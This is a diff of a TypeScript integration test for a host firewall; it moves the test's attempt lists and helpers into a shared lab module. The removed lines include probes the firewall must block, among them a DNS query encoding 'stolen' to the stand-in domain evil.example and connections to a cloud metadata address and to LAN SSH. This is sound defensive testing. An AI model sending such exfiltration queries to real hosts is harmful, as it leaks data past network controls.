@@ -1,43 +1,13 @@
-import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
-import {
-  checkFirewall,
-  loadFirewall,
-  removeFirewall,
-  type FirewallPlan,
-  type RunFirewall,
-} from '../../src/host/firewall/index.ts';
+import { checkFirewall, loadFirewall, removeFirewall } from '../../src/host/firewall/index.ts';
 import { attempt, echoesArrived, output, type Attempt } from './lab/attempts.ts';
 import { askConnect, readAll, tlsThrough } from './lab/clients.ts';
 import { LISTED_443 } from './lab/fixture.ts';
 import { isRoot, NET } from './lab/namespaces.ts';
+import { dns, firewallOf, OPEN_TO_EGRESS, ping, PLAN, SHUT_TO_EGRESS, tcp, WAYS } from './lab/rules.ts';
 import { LISTED, openWorld, startEgress, UID, UNLISTED, type Egress, type World } from './lab/world.ts';
 
-const PLAN: FirewallPlan = {
-  zoneUids: [{ from: UID.zone, to: UID.connector }],
-  egressUid: UID.egress,
-  resolvers: [NET.resolver],
-  relay: null,
-};
-const tcp = (to: string, port: number): Attempt => ({ kind: 'tcp', to, port });
-const udp = (to: string, port: number): Attempt => ({ kind: 'udp', to, port });
-const dns = (to: string, name: string): Attempt => ({ kind: 'dns', to, name });
-const ping = (to: string): Attempt => ({ kind: 'ping', to });
-
-const WAYS: readonly Attempt[] = [
-  tcp(NET.listed4, 443),
-  tcp(NET.listed6, 443),
-  tcp(NET.lan, 80),
-  tcp(NET.lan, 22),
-  tcp(NET.metadata, 80),
-  tcp(NET.unique6, 443),
-  udp(NET.listed4, 443),
-  udp(NET.listed6, 443),
-  udp(NET.lan, 443),
-  dns(NET.resolver, 'c3RvbGVu.evil.example'),
-  dns(NET.otherResolver, 'c3RvbGVu.evil.example'),
-];
 const PINGS: readonly Attempt[] = [ping(NET.listed4), ping(NET.listed6), ping(NET.lan)];
 const all = (attempts: readonly Attempt[], answer: string): string[] => attempts.map(() => answer);
 
@@ -46,16 +16,7 @@ if (typeof found === 'string') console.log(`three locks: not run: ${found}`);
 
 describe.skipIf(typeof found === 'string')('three locks', () => {
   const world = found as World;
-  const run: RunFirewall = async (program, args, input) => {
-    const file = join(world.directory, 'rules.nft');
-    writeFileSync(file, input ?? '');
-    const given = args.map((each) => (each === '-' ? file : each));
-    try {
-      return { status: 0, stdout: await output(world, undefined, [program, ...given]), stderr: '' };
-    } catch (error) {
-      return { status: 1, stdout: '', stderr: error instanceof Error ? error.message : '' };
-    }
-  };
+  const run = firewallOf(world);
   let egress: Egress;
 
   beforeAll(async () => {
@@ -105,28 +66,13 @@ describe.skipIf(typeof found === 'string')('three locks', () => {
   });
 
   test('the egress uid reaches TLS ports of public addresses and its resolver', async () => {
-    const open = [tcp(NET.listed4, 443), tcp(NET.listed4, 465), tcp(NET.listed4, 993), tcp(NET.listed6, 443)];
-    expect(await attempt(world, UID.egress, open)).toEqual(all(open, 'passed'));
+    expect(await attempt(world, UID.egress, OPEN_TO_EGRESS)).toEqual(all(OPEN_TO_EGRESS, 'passed'));
     expect(await attempt(world, UID.egress, [dns(NET.resolver, LISTED)])).toEqual(['passed']);
     expect((await world.seen()).filter(({ kind }) => kind === 'dns')).toHaveLength(1);
   });
 
   test('the egress uid reaches nothing else, even if the process were taken over', async () => {
-    const shut = [
-      tcp(NET.listed4, 80),
-      tcp(NET.lan, 443),
-      tcp(NET.lan, 22),
-      tcp(NET.metadata, 80),
-      tcp(NET.metadata, 443),
-      tcp(NET.unique6, 443),
-      tcp(NET.tunnel6, 443),
-      udp(NET.listed4, 443),
-      udp(NET.listed6, 443),
-      udp(NET.resolver, 443),
-      dns(NET.otherResolver, 'c3RvbGVu.evil.example'),
-      tcp('127.0.0.1', 443),
-    ];
-    const answers = await attempt(world, UID.egress, shut);
+    const answers = await attempt(world, UID.egress, SHUT_TO_EGRESS);
     expect(answers).not.toContain('passed');
     expect(answers).not.toContain('silence');
     expect(await pings(UID.egress)).toBe(0);
